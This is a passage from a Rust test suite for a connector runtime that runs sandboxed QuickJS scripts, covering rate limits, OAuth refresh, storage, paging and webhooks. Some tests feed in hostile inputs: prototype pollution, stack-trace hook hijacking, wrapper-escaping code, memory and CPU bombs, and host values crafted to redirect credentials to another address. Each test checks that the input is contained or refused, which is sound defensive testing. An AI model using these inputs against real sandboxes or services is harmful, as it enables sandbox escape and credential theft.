    let request = CallRequest { method: "list".to_owned(), ..CallRequest::default() };
    // Alternating instances, one after the other: each send waits for the slot the other one took.
    for i in 0..6 {
        let runtime = if i % 2 == 0 { &env.runtime } else { &*second };
        runtime.call(&env.org, "acme", "a1", &request).await.expect("call");
    }
    let arrivals = env.fake.data_arrivals.lock().expect("lock").clone();
    assert_eq!(arrivals.len(), 6);
    for pair in arrivals.windows(2) {
        let gap = pair[1] - pair[0];
        assert!(gap >= Duration::from_millis(80), "10/s across both instances, yet two sends {gap:?} apart");
    }

    // A long Retry-After seen by one instance blocks the account on the other: nothing more is sent.
    env.fake.set(|s| {
        s.rate_limited = 1;
        s.retry_after = "120";
    });
    let err = env.runtime.call(&env.org, "acme", "a1", &request).await.expect_err("long wait");
    assert_eq!(err.code(), ErrorCode::UpstreamRateLimited);
    let calls = env.fake.data_calls.load(std::sync::atomic::Ordering::SeqCst);
    let blocked = second.call(&env.org, "acme", "a1", &request).await.expect_err("blocked on the other instance");
    assert_eq!(blocked.code(), ErrorCode::UpstreamRateLimited);
    assert!(blocked.retry_after_secs().is_some_and(|s| (100..=120).contains(&s)), "{:?}", blocked.retry_after_secs());
    assert_eq!(env.fake.data_calls.load(std::sync::atomic::Ordering::SeqCst), calls, "blocked calls are not sent");
    drop(database);
}

/// A context holds the host's built-ins that its scripts name, and only those (docs/connectors.md, "Limits").
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn built_ins_are_in_the_contexts_whose_scripts_name_them() {
    use portcullis_connect::script::{self, Event, Host, Outcome};
    let host = Host::new(reqwest::Client::new(), tokio::runtime::Handle::current());
    tokio::task::spawn_blocking(move || {
        let run = |source: &str| {
            let run = script::run(Event::AfterAction, &[source], serde_json::Map::new(), Limits::default(), &host);
            script::tidy();
            assert_eq!(run.outcome, Outcome::Continue);
            run.globals["method_response"].clone()
        };
        // `btoa` is Cyclr's (UTF-8 by default, a charset argument), not QuickJS's own Latin-1 one.
        let named = "function after_action() { method_response = [typeof console.log, btoa('é'), atob('6Q==', 'ISO-8859-1'), \
            typeof cyclr_sign, typeof cyclr_csv_parse, typeof cyclr_xml_serialize, typeof cyclr_xml_deserialize, \
            typeof cyclr_storage_get, typeof cycle_storage_set, typeof http_request]; return true; }";
        assert_eq!(
            run(named),
            json!(["function", "w6k=", "é", "function", "function", "function", "function", "function", "function",
                "function"])
        );
        let unnamed = "function after_action() { var g = globalThis; method_response = [typeof g['http_' + 'request'], \
            typeof g['con' + 'sole'], typeof g['cyclr_' + 'sign'], typeof g['cycle_' + 'storage_get'], \
            typeof g['Uint8' + 'Array'], typeof g['bt' + 'oa'], typeof Map, typeof Promise, typeof Proxy, \
            typeof WeakRef, typeof performance, typeof JSON, typeof Date, /a+/.test('aa')]; return true; }";
        assert_eq!(
            run(unnamed),
            json!(["undefined", "undefined", "undefined", "undefined", "undefined", "undefined", "function",
                "function", "function", "function", "object", "object", "function", true])
        );
        // The typed arrays, and QuickJS's whole standard set, once a script names one.
        let typed = "function after_action() { var b = new Uint8Array([1, 2, 3]); method_response = [b.length, \
            typeof globalThis['Data' + 'View'], typeof globalThis['Float64' + 'Array']]; return true; }";
        assert_eq!(run(typed), json!([3, "function", "function"]));
    })
    .await
    .expect("join");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_leaks_between_invocations_on_one_thread() {
    use portcullis_connect::script::{self, Event, Host, Outcome};
    let host = Host::new(reqwest::Client::new(), tokio::runtime::Handle::current());
    tokio::task::spawn_blocking(move || {
        let limits = Limits { timeout: Duration::from_millis(300), memory_bytes: 16 * 1024 * 1024 };
        // Globals, a built-in prototype, and the prelude's own objects (which a readied context loaded ahead);
        // then what a walk over properties would miss: a global `let` (a level that closes the host's wrapper
        // early declares it at the top level), the error hooks QuickJS keeps in the context itself, and a
        // library's closure state (moment's global locale).
        let changes = "globalThis.leak = 1; Object.prototype.polluted = 1; AuthRefreshException.prototype.marked = 1; \
            console.log = null; http_request = 0; \
            Error.prepareStackTrace = function () { return 'hijacked'; }; Error.stackTraceLimit = 5; \
            moment.defineLocale('leak', { parentLocale: 'en' });";
        let probes = "method_response = { leak: typeof leak, polluted: typeof ({}).polluted, \
            marked: typeof new AuthRefreshException().marked, log: typeof console.log, http: typeof http_request, \
            lexical: typeof lexical, hook: typeof Error.prepareStackTrace, limit: Error.stackTraceLimit, \
            hijacked: new Error('x').stack === 'hijacked', locale: moment.locale() };";
        let lexical = "return {}; }); let lexical = 1; __level(function () {";
        let set = format!("function after_action() {{ {changes} return true; }}");
        let check = format!("function after_action() {{ {probes} return true; }}");
        let clean = json!({"leak": "undefined", "polluted": "undefined", "marked": "undefined", "log": "function",
            "http": "function", "lexical": "undefined", "hook": "undefined", "limit": 10, "hijacked": false,
            "locale": "en"});
        // Within one transaction every probe sees its change, so a leak would show.
        let within = format!("function after_action() {{ {changes} {probes} return true; }}");
        let seen = script::run(Event::AfterAction, &[&within, lexical], serde_json::Map::new(), limits, &host);
        assert_eq!(seen.outcome, Outcome::Continue);
        for (probe, value) in clean.as_object().expect("object") {
            assert_ne!(&seen.globals["method_response"][probe], value, "{probe} does not see its change");
        }
        // As a direct caller runs scripts, then as the script pool does: `tidy` between invocations.
        for tidy in [false, true, false, true] {
            let run = |levels: &[&str]| {
                let run = script::run(Event::AfterAction, levels, serde_json::Map::new(), limits, &host);
                if tidy {
                    script::tidy();
                }
                run
            };
            assert_eq!(run(&[&set, lexical]).outcome, Outcome::Continue);
            let bomb = "function after_action() { var a = []; while (true) { a.push('x'.repeat(1 << 20)); } }";
            assert_eq!(run(&[bomb]).outcome, Outcome::OutOfMemory);
            let spin = "function after_action() { while (true) {} }";
            assert_eq!(run(&[spin]).outcome, Outcome::Timeout);
            assert_eq!(run(&[&set, lexical]).outcome, Outcome::Continue);
            let checked = run(&[&check]);
            assert_eq!(checked.outcome, Outcome::Continue);
            assert_eq!(checked.globals["method_response"], clean);
            assert_eq!(run(&[&set, lexical]).outcome, Outcome::Continue);
            assert_eq!(run(&[&check]).globals["method_response"], clean, "right after a readied context");
        }
    })
    .await
    .expect("blocking");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_and_xml_builtins() {
    let env = echo_env("var order = globalThis.order = [];").await;
    let step = r#"function after_action() {
        method_response = {
            rows: cyclr_csv_parse('a,b\n1,"x, ""y"""\n2,z', ',', false),
            objects: cyclr_csv_parse('name;age\r\nAda;36', ';', true),
            xml: cyclr_xml_serialize({ note: { to: 'Tove', from: 'Jani', heading: 'Reminder', body: "Don't forget me this weekend!" } }),
            back: cyclr_xml_deserialize('<note><to>Tove</to><from>Jani</from><heading>Reminder</heading><body>Don\'t forget me this weekend!</body></note>'),
            mixed: cyclr_xml_deserialize('<a id="1"><b>x</b><b>y</b>text</a>')
        };
        return true;
    }"#;
    let result = echo_call(&env, Some(step)).await.expect("call");
    assert_eq!(result.data["rows"], json!([["a", "b"], ["1", "x, \"y\""], ["2", "z"]]));
    assert_eq!(result.data["objects"], json!([{"name": "Ada", "age": "36"}]));
    assert_eq!(
        result.data["xml"],
        "<note><to>Tove</to><from>Jani</from><heading>Reminder</heading><body>Don't forget me this weekend!</body></note>"
    );
    assert_eq!(
        result.data["back"],
        json!({"note": {"to": "Tove", "from": "Jani", "heading": "Reminder", "body": "Don't forget me this weekend!"}})
    );
    assert_eq!(result.data["mixed"], json!({"a": {"@id": "1", "b": ["x", "y"], "#text": "text"}}));
    let bad = echo_call(&env, Some("function after_action() { cyclr_xml_deserialize('<a>'); return true; }"));
    let err = bad.await.expect_err("malformed");
    assert!(err.message().contains("invalid XML"), "{}", err.message());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bundled_moment_and_crypto_js_libraries() {
    let env = echo_env("var order = globalThis.order = [];").await;
    // Cyclr's "Libraries" page: moment (+ Moment Timezone) and crypto-js, no `require`; crypto-js output is hex.
    let step = r"function after_action() {
        var now = moment.utc();
        method_response = {
            month_end: moment.utc('2024-01-31T10:00:00Z').add(1, 'months').format('YYYY-MM-DD HH:mm'),
            formatted: moment.utc('2026-12-03T13:05:09Z').format('dddd, MMMM Do YYYY, h:mm:ss a'),
            unix: moment.utc('2026-12-03T00:00:00Z').unix(),
            added: now.clone().add(90, 'minutes').diff(now, 'minutes'),
            local_now: moment().add(1, 'days').isAfter(moment()),
            berlin: moment.tz('2024-07-01T12:00:00Z', 'Europe/Berlin').format(),
            hmac: CryptoJS.HmacSHA256('The quick brown fox jumps over the lazy dog', 'key').toString(),
            md5: CryptoJS.MD5('abc').toString(),
            sha1: CryptoJS.SHA1('abc').toString()
        };
        return true;
    }";
    let result = echo_call(&env, Some(step)).await.expect("call");
    assert_eq!(
        result.data,
        json!({
            "month_end": "2024-02-29 10:00",
            "formatted": "Thursday, December 3rd 2026, 1:05:09 pm",
            "unix": 1_796_256_000,
            "added": 90,
            "local_now": true,
            "berlin": "2024-07-01T14:00:00+02:00",
            "hmac": "f7bc83f430538424b13298e6aa6fb143ef4d59a14946175997479dbc2d1a3cd8",
            "md5": "900150983cd24fb0d6963f7d28e17f72",
            "sha1": "a9993e364706816aba3e25717850c26c9cd0d89d"
        })
    );
    // A script that does not name a library does not pay for loading it (and does not see it).
    let plain = "function after_action() { method_response = [typeof globalThis['mom' + 'ent'], typeof globalThis['Crypto' + 'JS'], typeof require]; return true; }";
    let result = echo_call(&env, Some(plain)).await.expect("call");
    assert_eq!(result.data, json!(["undefined", "undefined", "undefined"]));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn storage_builtins_persist_per_connector_and_per_account() {
    let env = echo_env("var order = globalThis.order = [];").await;
    let second = AccountInput {
        id: Some("a2".to_owned()),
        connector: Some("echo".to_owned()),
        auth_value: Some("k-456".to_owned()),
        ..AccountInput::default()
    };
    env.runtime.create_account(&env.org, second).await.expect("second account");
    let write = r"function after_action() {
        cyclr_storage_set('cursor', { since: '2026-12-01', ids: [1, 2] });
        cyclr_storage_append('seen', 'a');
        cyclr_storage_append('seen', 'b');
        cyclr_storage_increment('calls');
        cyclr_storage_increment('calls', 4);
        cyclr_storage_decrement('calls');
        cyclr_storage_set('gone', 1);
        cycle_storage_set('mine', 'a1 only');
        method_response = { deleted: cyclr_storage_delete('gone'), again: cyclr_storage_delete('gone') };
        return true;
    }";
    let result = echo_call(&env, Some(write)).await.expect("write");
    assert_eq!(result.data, json!({"deleted": true, "again": false}));
    // Another call, another fresh context, another account of the same connector: the shared scope is there,
    // the first account's cycle scope is not.
    let read = r"function after_action() {
        method_response = {
            cursor: cyclr_storage_get('cursor'), missing: cyclr_storage_get('missing'),
            keys: cyclr_storage_list_keys(), values: cyclr_storage_list_values(),
            mine: cycle_storage_get('mine'), cycle_keys: cycle_storage_list_keys()
        };
        return true;
    }";
    let request = CallRequest { method: "echo".to_owned(), script: Some(read.to_owned()), ..CallRequest::default() };
    let result = env.runtime.call(&env.org, "echo", "a2", &request).await.expect("read");
    assert_eq!(
        result.data,
        json!({
            "cursor": {"since": "2026-12-01", "ids": [1, 2]}, "missing": null,
            "keys": ["calls", "cursor", "seen"], "values": [4, {"since": "2026-12-01", "ids": [1, 2]}, ["a", "b"]],
            "mine": null, "cycle_keys": []
        })
    );
    let own = "function after_action() { method_response = cycle_storage_get('mine'); return true; }";
    assert_eq!(echo_call(&env, Some(own)).await.expect("own").data, "a1 only");
    let clear = "function after_action() { method_response = [cyclr_storage_delete_all(), cyclr_storage_list_keys()]; return true; }";
    assert_eq!(echo_call(&env, Some(clear)).await.expect("clear").data, json!([3, []]));
    // Misuse is a script error with the store's reason, and writes nothing.
    let bad = "function after_action() { cyclr_storage_set('n', 'text'); cyclr_storage_increment('n'); return true; }";
    let err = echo_call(&env, Some(bad)).await.expect_err("not a number");
    assert_eq!(err.code(), ErrorCode::ScriptError);
    assert!(err.message().contains("not a number"), "{}", err.message());
    let big = "function after_action() { cyclr_storage_set('big', 'x'.repeat(70000)); return true; }";
    let err = echo_call(&env, Some(big)).await.expect_err("too large");
    assert!(err.message().contains("at most 65536"), "{}", err.message());
    let check = "function after_action() { method_response = [cyclr_storage_get('n'), cyclr_storage_get('big')]; return true; }";
    assert_eq!(echo_call(&env, Some(check)).await.expect("check").data, json!(["text", null]));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn auth_failure_on_page_three_retries_that_page_only() {
    let yaml = |b: &str| {
        oauth_yaml(b, SEED_REFRESH_AFTER_ERROR).replace(
            "methods:\n  list:\n    path: /data\n",
            "methods:\n  list:\n    path: /data\n  all:\n    path: /pages\n    query:\n      page: '{{CYCLR_PAGE_NUMBER}}'\n      size: '{{CYCLR_PAGE_SIZE}}'\n    paging:\n      type: page_number\n      page_size: 2\n      items_path: items\n    script: |\n      function after_action() { action_data.pages = (action_data.pages || 0) + 1; return true; }\n      function after_action_paging() { method_response = { items: method_response, pages: action_data.pages }; return true; }\n",
        )
    };
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, yaml, fast()).await;
    env.oauth_account("a1", "at-valid").await;
    *env.fake.revoke_on_page.lock().expect("lock") = Some(3);
    let result = env.call("acme", "all").await.expect("call");
    assert_eq!(result.data, json!({"items": [10, 11, 20, 21, 30, 31, 40, 41, 50], "pages": 5}));
    assert_eq!(result.recoveries, 1);
    assert_eq!(*env.fake.pages_requested.lock().expect("lock"), [1, 2, 3, 3, 4, 5], "only page 3 is fetched again");
    assert_eq!(env.fake.tokens(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn declarative_rules_recover_without_scripts() {
    let rule = "recovery:\n  - http_codes: [200]\n    body_path: error_code\n    equals: You are not logged on.\n    action: relogin_then_retry\n";
    let env = Env::new(Stale::NotLoggedOn200, TokenMode::Rotate, |b| session_yaml(b, "") + rule, fast()).await;
    session_account(&env).await;
    let result = env.call("sess", "contacts").await.expect("call");
    assert_eq!((result.data.clone(), result.recoveries, env.fake.logins()), (json!({"contacts": ["ada"]}), 1, 1));

    let rule = "recovery:\n  - http_codes: [403]\n    action: refresh_then_retry\n";
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, "") + rule, fast()).await;
    env.oauth_account("a1", "at-stale").await;
    let result = env.call("acme", "list").await.expect("call");
    assert_eq!((result.recoveries, env.fake.tokens()), (1, 1));

    let rule = "recovery:\n  - http_codes: [403]\n    body_contains: forbidden\n    action: fail\n";
    let env =
        Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR) + rule, fast()).await;
    env.oauth_account("a1", "at-stale").await;
    let err = env.call("acme", "list").await.expect_err("fails before the hook");
    assert_eq!((err.code(), env.fake.tokens()), (ErrorCode::UpstreamError, 0));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn retry_rule_sends_the_request_again_once_without_reauthenticating() {
    // after_error would ask for a refresh on any error: the rule decides first, so it never runs.
    let script = "function after_error() { throw new AuthRefreshException(); }";
    let rule = "recovery:\n  - http_codes: [503]\n    body_path: error\n    equals: busy\n    action: retry\n";
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, script) + rule, fast()).await;
    env.oauth_account("a1", "at-valid").await;
    let data_calls = || env.fake.data_calls.load(std::sync::atomic::Ordering::SeqCst);

    env.fake.set(|s| s.unavailable = 1);
    let result = env.call("acme", "list").await.expect("second attempt succeeds");
    assert_eq!((result.data.clone(), result.recoveries), (json!({"items": [1, 2, 3]}), 0));
    assert_eq!((data_calls(), env.fake.tokens()), (2, 0), "one retry, no token request");

    env.fake.set(|s| s.unavailable = 5);
    let err = env.call("acme", "list").await.expect_err("matches again");
    assert_eq!(err.code(), ErrorCode::UpstreamError);
    assert!(err.message().contains("503") && err.message().contains("again after a retry"), "{}", err.message());
    assert_eq!((data_calls(), env.fake.tokens()), (4, 0), "retried once only, still no token request");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn multipart_bodies_are_never_sent_twice() {
    let yaml = |b: &str| {
        oauth_yaml(b, SEED_REFRESH_AFTER_ERROR).replace(
            "methods:\n",
            "methods:\n  upload:\n    http_method: POST\n    path: /upload\n    multipart: true\n    body:\n      name: '{{Name}}'\n      note: plain\n",
        )
    };
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, yaml, fast()).await;
    env.oauth_account("a1", "at-stale").await;
    let uploads = || env.fake.upload_calls.load(std::sync::atomic::Ordering::SeqCst);
    let request = CallRequest {
        method: "upload".to_owned(),
        mergefields: [("Name".to_owned(), json!("report.csv"))].into_iter().collect(),
        ..CallRequest::default()
    };
    // The seed's after_error asks for a refresh on 403: the token is renewed, the upload is not replayed.
    let err = env.runtime.call(&env.org, "acme", "a1", &request).await.expect_err("original error");
    assert_eq!(err.code(), ErrorCode::UpstreamError);
    assert!(err.message().contains("403") && err.message().contains("not sent twice"), "{}", err.message());
    assert_eq!((uploads(), env.fake.tokens()), (1, 1), "sent once; credentials renewed for the next call");

    let result = env.runtime.call(&env.org, "acme", "a1", &request).await.expect("next call uses the new token");
    assert_eq!(uploads(), 2);
    assert!(result.data["content_type"].as_str().is_some_and(|t| t.starts_with("multipart/form-data; boundary=")));
    let body = result.data["body"].as_str().unwrap_or_default();
    assert!(body.contains("name=\"name\"") && body.contains("report.csv") && body.contains("plain"), "{body}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn install_runs_the_lookup_and_client_credentials_get_a_first_token() {
    let env =
        Env::new(Stale::Forbidden, TokenMode::Rotate, |b| session_yaml(b, SEED_SESSION_AFTER_ERROR), fast()).await;
    let input = AccountInput {
        id: Some("a1".to_owned()),
        connector: Some("sess".to_owned()),
        properties: [("Username", "ada"), ("Password", "hunter2")]
            .into_iter()
            .map(|(k, v)| (k.to_owned(), v.to_owned()))
            .collect(),
        ..AccountInput::default()
    };
    env.runtime.create_account(&env.org, input).await.expect("install");
    assert_eq!(env.fake.logins(), 1, "the lookup ran at install");
    let result = env.call("sess", "contacts").await.expect("call");
    assert_eq!((result.recoveries, env.fake.logins()), (0, 1));
    assert!(result.steps.is_empty(), "a fresh session needs no step: {:?}", result.steps);

    let yaml = |b: &str| oauth_yaml(b, "").replace("grant: authorization_code", "grant: client_credentials");
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, yaml, fast()).await;
    let input =
        AccountInput { id: Some("a1".to_owned()), connector: Some("acme".to_owned()), ..AccountInput::default() };
    env.runtime.create_account(&env.org, input).await.expect("install");
    let result = env.call("acme", "list").await.expect("call");
    assert_eq!((result.data.clone(), env.fake.tokens()), (json!({"items": [1, 2, 3]}), 1));
    let form = env.fake.scenario.lock().expect("lock").last_refresh_form.clone();
    assert!(form.contains(&("grant_type".to_owned(), "client_credentials".to_owned())));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_request_to_a_silent_host_times_out_within_the_budget() {
    let env = echo_env("var order = globalThis.order = [];").await;
    let script = format!(
        "function before_action() {{ http_request({{ method: 'GET', url: '{}/slow' }}); return true; }}",
        env.fake.url
    );
    let started = std::time::Instant::now();
    let err = echo_call(&env, Some(&script)).await.expect_err("times out");
    // The budget ran out inside the host call: a timeout, as when it runs out in a loop.
    assert_eq!(err.code(), ErrorCode::ScriptTimeout, "{}", err.message());
    assert!(started.elapsed() < Duration::from_secs(5), "bounded by the 500 ms script budget");
    echo_call(&env, None).await.expect("the next call works");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_busy_token_endpoint_is_retried_after_its_retry_after() {
    let env =
        Env::new(Stale::Forbidden, TokenMode::BusyOnce, |b| oauth_yaml(b, SEED_REFRESH_AFTER_ERROR), fast()).await;
    env.oauth_account("a1", "at-stale").await;
    let started = std::time::Instant::now();
    let result = env.call("acme", "list").await.expect("refreshed on the second attempt");
    assert!(started.elapsed() >= Duration::from_secs(1), "Retry-After honoured");
    assert_eq!((result.recoveries, env.fake.tokens()), (1, 2));
    assert_eq!(env.credentials("a1").await.1, AccountState::Ok);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn before_oauth2_authorise_may_change_the_authorize_url() {
    let script =
        "function before_oauth2_authorise() { method_endpoint = method_endpoint + '&prompt=consent'; return true; }";
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, |b| oauth_yaml(b, script), fast()).await;
    env.oauth_account("a1", "at-valid").await;
    let url = env.runtime.authorize_url(&env.org, "a1", "http://127.0.0.1/cb").await.expect("url");
    assert!(url.starts_with(&format!("{}/authorize?response_type=code&client_id=cid", env.fake.url)), "{url}");
    assert!(url.contains("code_challenge_method=S256") && url.ends_with("&prompt=consent"), "{url}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn configured_rate_limit_queues_excess_requests() {
    let env = Env::new(
        Stale::Forbidden,
        TokenMode::Rotate,
        |b| oauth_yaml(b, "") + "rate_limit:\n  requests_per_second: 10\n",
        fast(),
    )
    .await;
    env.oauth_account("a1", "at-valid").await;
    let env = Arc::new(env);
    let started = std::time::Instant::now();
    let tasks: Vec<_> = (0..5)
        .map(|_| {
            let env = Arc::clone(&env);
            tokio::spawn(async move { env.call("acme", "list").await })
        })
        .collect();
    for task in tasks {
        task.await.expect("task").expect("call");
    }
    assert!(started.elapsed() >= Duration::from_millis(400), "5 requests at 10/s take 400 ms: {:?}", started.elapsed());
    let bad = Connector::parse(
        Path::new("bad.yaml"),
        "base_url: http://x\nauth:\n  type: none\nrate_limit:\n  requests_per_second: 0\nmethods: {}\n",
    );
    assert!(bad.expect_err("zero").iter().any(|e| e.to_string().starts_with("bad.yaml:4:")));
}

/// Cyclr's paging documentation as a definition: connector-level parameters (one left out by a method with
/// `CYCLR_IGNORE_PARAMETER`), token paging with a second named token, and outbound paging.
fn paging_yaml(base: &str) -> String {
    format!(
        "name: paged\nbase_url: {base}\nauth:\n  type: api_key\n  header: X-Api-Key\nquery:\n  api_version: '2'\nheaders:\n  X-Team: core\nmethods:\n  bulk:\n    http_method: POST\n    path: /echo\n    outbound_paging:\n      location: data.[records]\n      page_size: 2\n    script: |\n      function before_action() {{ method_request_headers['X-Batch'] = method_request.data.records.join('+'); return true; }}\n      function after_action() {{ method_response = {{ sent: JSON.parse(method_response.body), batch: method_response.headers['x-batch'], team: method_response.headers['x-team'] }}; return true; }}\n  plain:\n    path: /echo\n    query:\n      api_version: CYCLR_IGNORE_PARAMETER\n      q: x\n    headers:\n      X-Team: CYCLR_IGNORE_PARAMETER\n  cursor:\n    path: /cursor\n    query:\n      after: '{{{{CYCLR_PAGE_TOKEN}}}}'\n      filter: '{{{{CYCLR_PAGE_TOKEN_FILTER}}}}'\n    paging:\n      type: token\n      next_path: meta.cursors.after\n      tokens:\n        FILTER: meta.cursors.filter\n      items_path: items\n"
    )
}

async fn paging_env() -> Env {
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, paging_yaml, fast()).await;
    env.api_key_account("paged", "a1", "k-123").await;
    env
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn outbound_paging_sends_the_callers_records_in_requests_of_the_page_size() {
    let env = paging_env().await;
    let request = CallRequest {
        method: "bulk".to_owned(),
        body: Some(json!({"data": {"records": [1, 2, 3, 4, 5], "list": "vip"}})),
        ..CallRequest::default()
    };
    let result = env.runtime.call(&env.org, "paged", "a1", &request).await.expect("call");
    // One request per two records, each through the hooks, the rest of the body kept; one answer per request.
    assert_eq!(
        result.data,
        json!([
            {"sent": {"data": {"records": [1, 2], "list": "vip"}}, "batch": "1+2", "team": "core"},
            {"sent": {"data": {"records": [3, 4], "list": "vip"}}, "batch": "3+4", "team": "core"},
            {"sent": {"data": {"records": [5], "list": "vip"}}, "batch": "5", "team": "core"},
        ])
    );
    assert_eq!((result.outcome, result.status), ("success", 200));

    let misplaced = CallRequest { body: Some(json!({"data": {"records": "1,2"}})), ..request };
    let err = env.runtime.call(&env.org, "paged", "a1", &misplaced).await.expect_err("no array there");
    assert_eq!(err.code(), ErrorCode::EntityInvalid);
    assert!(err.message().contains("data.[records]"), "{}", err.message());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connector_parameters_apply_to_every_method_unless_ignored_and_named_page_tokens_follow() {
    let env = paging_env().await;
    let call = |method: &str| {
        let request = CallRequest { method: method.to_owned(), ..CallRequest::default() };
        let env = &env;
        async move { env.runtime.call(&env.org, "paged", "a1", &request).await.expect("call") }
    };
    let plain = call("plain").await;
    assert_eq!(plain.data["query"], json!("q=x"), "the connector's api_version is ignored here");
    assert!(plain.data["headers"].get("x-team").is_none(), "{}", plain.data);

    let bulk = env
        .runtime
        .call(
            &env.org,
            "paged",
            "a1",
            &CallRequest {
                method: "bulk".to_owned(),
                body: Some(json!({"data": {"records": [1]}})),
                ..CallRequest::default()
            },
        )
        .await
        .expect("bulk");
    assert_eq!((&bulk.data[0]["batch"], &bulk.data[0]["team"]), (&json!("1"), &json!("core")));

    let cursor = call("cursor").await;
    assert_eq!(cursor.data, json!([1, 2, 3]));
    let queries: Vec<Vec<String>> = env
        .fake
        .cursor_queries
        .lock()
        .expect("lock")
        .iter()
        .map(|q| {
            let mut pairs: Vec<String> = q.split('&').map(str::to_owned).collect();
            pairs.sort();
            pairs
        })
        .collect();
    assert_eq!(queries, [["after=", "api_version=2", "filter="], ["after=c2", "api_version=2", "filter=f-7"]]);
}

/// The OAuth definition with the API's host in an account property: `{{Host}}` in `base_url`, `token_url`
/// and `authorize_url`.
fn regional_yaml(base: &str, script: &str) -> String {
    let base = base.replace("127.0.0.1", "{{Host}}");
    format!(
        "name: acme\nbase_url: {base}\nproperties:\n  - name: Host\n    required: true\nauth:\n  type: oauth2\n  grant: authorization_code\n  authorize_url: {base}/authorize\n  token_url: {base}/oauth/token\n  client_id: cid\n  client_secret: csecret\n  pkce: true\nscript: |\n{}methods:\n  list:\n    path: /data\n",
        indent(script)
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connector_urls_take_the_accounts_properties_never_a_callers_merge_fields() {
    let env =
        Env::new(Stale::InvalidGrant200, TokenMode::Rotate, |b| regional_yaml(b, SEED_REFRESH_AFTER_ACTION), fast())
            .await;
    let value = OAuthValue {
        access_token: "at-stale".to_owned(),
        refresh_token: Some("rt-0".to_owned()),
        expires: None,
        refresh_expires: None,
    };
    let account = |id: &str, host: &str| AccountInput {
        id: Some(id.to_owned()),
        connector: Some("acme".to_owned()),
        properties: [("Host".to_owned(), host.to_owned())].into(),
        auth_value: Some(serde_json::to_string(&value).expect("json")),
    };
    env.runtime.create_account(&env.org, account("a1", "127.0.0.1")).await.expect("account");
    // A caller's Host cannot move the request (and the credentials) elsewhere.
    let request = CallRequest {
        method: "list".to_owned(),
        mergefields: serde_json::Map::from_iter([("Host".to_owned(), json!("198.51.100.7"))]),
        ..CallRequest::default()
    };
    let result = env.runtime.call(&env.org, "acme", "a1", &request).await.expect("call");
    assert_eq!(result.data, json!({"items": [1, 2, 3]}));
    assert_eq!((result.recoveries, env.fake.tokens()), (1, 1), "refreshed at the token_url of the account's host");
    let authorize = env.runtime.authorize_url(&env.org, "a1", "https://portcullis.example/cb").await.expect("url");
    assert!(authorize.starts_with(&format!("{}/authorize?", env.fake.url)), "{authorize}");

    // A property that would reshape the URL is refused before anything is sent.
    env.runtime.create_account(&env.org, account("a2", "127.0.0.1@198.51.100.7")).await.expect("account");
    let refused = env.runtime.call(&env.org, "acme", "a2", &request).await.expect_err("refused");
    assert_eq!(refused.code(), ErrorCode::ConnectorInvalid);
    assert!(refused.message().contains("Host"), "{}", refused.message());
}

// Cyclr's "Make External Requests" script example: the webhook names a URL holding the real object.
const DOC_AFTER_WEBHOOK_HTTP_REQUEST: &str = r"function after_webhook() {
    var request = {
        method: 'GET',
        url: method_response.api_url,
        headers: {
            Accept: 'application/json'
        }
    };


    method_response = http_request(request).content;
    return true;
}";

/// An OAuth connector with three webhook methods: the documented example, a GitHub-signed one whose
/// `before_webhook` answers a verification challenge itself, and one whose `after_webhook` filters events.
fn webhook_yaml(base: &str) -> String {
    format!(
        "name: hooks\nbase_url: {base}\nproperties:\n  - name: WebhookSecret\n    sensitive: true\nauth:\n  type: oauth2\n  grant: authorization_code\n  authorize_url: {base}/authorize\n  token_url: {base}/oauth/token\n  client_id: cid\n  client_secret: csecret\nmethods:\n  object_updated:\n    webhook: {{}}\n    script: |\n{}  signed:\n    webhook:\n      signature: {{ scheme: github, secret_property: WebhookSecret }}\n    script: |\n      function before_webhook() {{\n        if (method_request.challenge) {{ method_response = {{ challenge: method_request.challenge }}; method_response_headers['X-Verified'] = 'yes'; return false; }}\n        return true;\n      }}\n  filtered:\n    webhook: {{}}\n    script: |\n      function after_webhook() {{ return method_response.event !== 'ping'; }}\n  list:\n    path: /data\n",
        indent(&indent(&indent(DOC_AFTER_WEBHOOK_HTTP_REQUEST)))
    )
}

async fn webhook_env() -> Env {
    let env = Env::new(Stale::Forbidden, TokenMode::Rotate, webhook_yaml, fast()).await;
    env.fake.scenario.lock().expect("lock").access_token = "at-live".to_owned();
    let value = OAuthValue {
        access_token: "at-live".to_owned(),
        refresh_token: Some("rt-0".to_owned()),
        expires: None,
        refresh_expires: None,
    };
    let input = AccountInput {
        id: Some("a1".to_owned()),
        connector: Some("hooks".to_owned()),
        properties: [("WebhookSecret".to_owned(), "gh-secret".to_owned())].into(),
        auth_value: Some(serde_json::to_string(&value).expect("json")),
    };
    env.runtime.create_account(&env.org, input).await.expect("account");
    env
}

fn inbound(body: &serde_json::Value, headers: &[(&'static str, String)]) -> InboundWebhook {
    InboundWebhook {
        url: "https://portcullis.example/connectors/webhooks/x".to_owned(),
        headers: headers
            .iter()
            .map(|(k, v)| (http::HeaderName::from_static(k), v.parse().expect("header value")))
